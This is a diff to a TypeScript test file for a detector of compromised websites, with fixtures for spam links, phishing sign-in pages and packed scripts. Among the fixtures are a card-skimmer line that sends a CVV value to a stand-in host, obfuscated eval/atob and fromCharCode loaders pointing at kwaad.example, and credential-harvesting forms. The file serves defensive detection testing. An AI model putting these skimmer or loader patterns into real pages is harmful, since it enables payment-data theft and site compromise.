@@ -9,6 +9,15 @@ const start = `eval(atob("${'ZnVuY3Rpb24geCgpe3JldHVybiAxfQ'.repeat(30)}"))`;
 const packed: Changes = { resources: { inline: [{ start, length: 4_000 }] } };
 const spamLink = (index: number) => ({ url: `https://spam${index}.example/online-casino`, text: 'online casino' });
 const hidden: Changes = { concealed: { links: [spamLink(1), spamLink(2), spamLink(3)] } };
+const encoded = (code: string): string => `eval(atob("${btoa(code.padEnd(600))}"))`;
+const inline = (code: string): Changes => ({ resources: { inline: [{ start: code, length: code.length }] } });
+const menu = (...texts: readonly string[]) => ({
+  concealed: { links: texts.map((text, at) => ({ url: `https://andere${at}.nl/`, text })) },
+});
+const heading = (text: string): Changes => ({ headings: [{ level: 1, text, visible: true }] });
+const numbers = (code: string): string =>
+  `eval(String.fromCharCode(${[...code.padEnd(200)].map((one) => one.charCodeAt(0)).join(',')}))`;
+const skims = `document.querySelector("#cvv");var d=btoa(v);new Image().src="https://jquery-cdn.example/x?d="+d`;
 const form = (action: string, fields: readonly string[]): Changes => ({
   forms: { list: [{ action, method: 'post', fields: [...fields], selector: 'form' }] },
 });
@@ -27,21 +36,24 @@ const stolen: Changes = {
 const long = 'Wij bakken brood. '.repeat(200);
 const spamRaw: Changes = { head: { titles: ['Buy Viagra online'] } };
 
+const LATIN = 'Wij schilderen huizen in Zwolle en omgeving, al meer dan dertig jaar. '.repeat(10);
+const titled = (title: string, changes: Changes = {}): Changes => ({
+  ...changes,
+  head: { titles: [title] },
+  text: { body: LATIN },
+});
+
 cases(compromiseSigns, {
   none: [
     on({}),
-    on({
-      concealed: {
-        links: [
-          { url: 'https://partner.nl/', text: 'Partner' },
-          { url: 'https://b.nl/', text: 'B' },
-          { url: 'https://c.nl/', text: 'C' },
-        ],
-      },
-    }),
+    on(menu('Partner', 'B', 'C')),
     on({ concealed: { links: [spamLink(1)] } }),
-    // The menu of a site about that very thing.
-    on({ ...hidden, headings: [{ level: 1, text: 'Online casino vergelijken', visible: true }] }),
+    // The menus of sites about that very thing.
+    on({ ...hidden, ...heading('Online casino vergelijken') }),
+    { ...on(hidden), scan: scan({ host: 'www.pokernieuws.nl' }) },
+    on({ ...menu('Payday loans', 'Payday loans UK', 'Instant loans'), ...heading('Lenen: wat kost het?') }),
+    // A hidden menu and a text for screen readers that speak of anything else.
+    on(menu('Naar de inhoud', 'Zoeken', 'Menu sluiten', 'Onze winkels in Duitsland')),
     on(form('https://voorbeeld.nl/login', ['text', 'password'])),
     on(form('https://lijst.nieuwsbrief.nl/aanmelden', ['email'])),
     on({}, { head: { titles: ['Een andere titel'] } }),
@@ -51,16 +63,48 @@ cases(compromiseSigns, {
     on(signIn('Inloggen bij ING', long)),
     on({ ...signIn('Inloggen bij ING'), forms: {} }),
     { ...on(signIn('Mijn ING - Inloggen')), scan: scan({ host: 'mijn.ing.nl' }) },
+    // A brand in Latin letters over any text, a title that the text quotes, and a page in that language.
+    on({ head: { titles: ['NHK WORLD'] }, text: { body: '日本の公共放送局'.repeat(40) } }),
+    on(titled('激安ルイヴィトン通販', { document: { lang: 'ja' } })),
+    on({ head: { titles: ['日本語の諺を学ぶ'] }, text: { body: `日本語の諺 ${LATIN}` } }),
+    on(titled('寿司 Sushi Amsterdam Noord')),
+    // Code of a payment service, in the open.
+    on(inline(`var card = document.getElementById("card-number"); fetch("https://api.stripe.com/v1/tokens")`)),
   ],
   one: [
     on(signIn('Mijn ING - Inloggen')),
-    on({ ...signIn('Welkom'), headings: [{ level: 1, text: 'Inloggen met DigiD', visible: true }] }),
+    on({ ...signIn('Welkom'), ...heading('Inloggen met DigiD') }),
     on({ ...signIn('Mijn ING - Inloggen', long), overlay: { share: 0.97, selector: '#laag' } }),
     // One form, one sign.
     on({ ...signIn('Mijn ING - Inloggen'), ...form('https://verzamel.example/p.php', ['text', 'password']) }),
     on(packed),
-    on(hidden),
+    // Packed measurement writes scripts too, and says whose.
+    on(inline(encoded('var s=document.createElement("script");s.src="https://www.googletagmanager.com/gtm.js";'))),
+    on(inline(encoded('var _paq=[];var s=document.createElement("script");s.src="https://stats.example/m.js";'))),
+    on(inline(encoded('var s=document.createElement("script");s.src="https://cdn.voorbeeld.nl/m.js";'))),
     on(form('https://verzamel.example/p.php', ['text', 'password'])),
+    // Most of what is hidden is the site's own partners.
+    on(menu('Partner', 'Bank', 'Krant', 'Radio', 'Winkel', 'online casino')),
+  ],
+  ordinary: [
+    // Packed analytics beside single sign-on elsewhere, or beside another's sign-in.
+    on({ ...packed, ...form('https://inloggen.groep.example/', ['text', 'password']) }),
+    on({ ...signIn('Inloggen met DigiD'), ...packed }),
+    on({ ...packed, ...menu('Partner', 'Bank', 'Krant', 'Radio', 'Winkel', 'online casino') }),
+  ],
+  found: [
+    on(hidden),
+    on(menu('slot gacor', 'judi online', 'togel')),
+    on(menu('buy viagra', 'cheap cialis', 'canadian pharmacy')),
+    on(menu('payday loans', 'minilening zonder bkr', 'flitskrediet')),
+    { ...on(hidden), raw: blind('denied') },
+    on(titled('激安ルイヴィトン通販サイト')),
+    on(titled('Купить диплом недорого')),
+    on({ text: { body: LATIN } }, { head: { titles: ['激安ルイヴィトン通販サイト'] } }),
+    on(inline(skims)),
+    on(inline(encoded('document.write("<script src=https://kwaad.example/x.js></script>")'))),
+    on(inline(encoded('var s=document.createElement("script");s.src="//kwaad.example/x.js"'))),
+    on(inline(numbers('window.location.href="https://kwaad.example/";'))),
     on({}, spamRaw),
     on(
       {},
@@ -68,13 +112,6 @@ cases(compromiseSigns, {
         links: { list: [1, 2, 3].map((index) => link({ href: `https://spam${index}.example/`, text: 'slot gacor' })) },
       },
     ),
-  ],
-  ordinary: [
-    // Packed analytics beside single sign-on elsewhere, or beside another's sign-in.
-    on({ ...packed, ...form('https://inloggen.groep.example/', ['text', 'password']) }),
-    on({ ...signIn('Inloggen met DigiD'), ...packed }),
-  ],
-  several: [
     on({ ...signIn('Mijn ING - Inloggen'), ...packed, ...stolen }),
     on({ ...packed, ...hidden }),
     on(hidden, spamRaw),
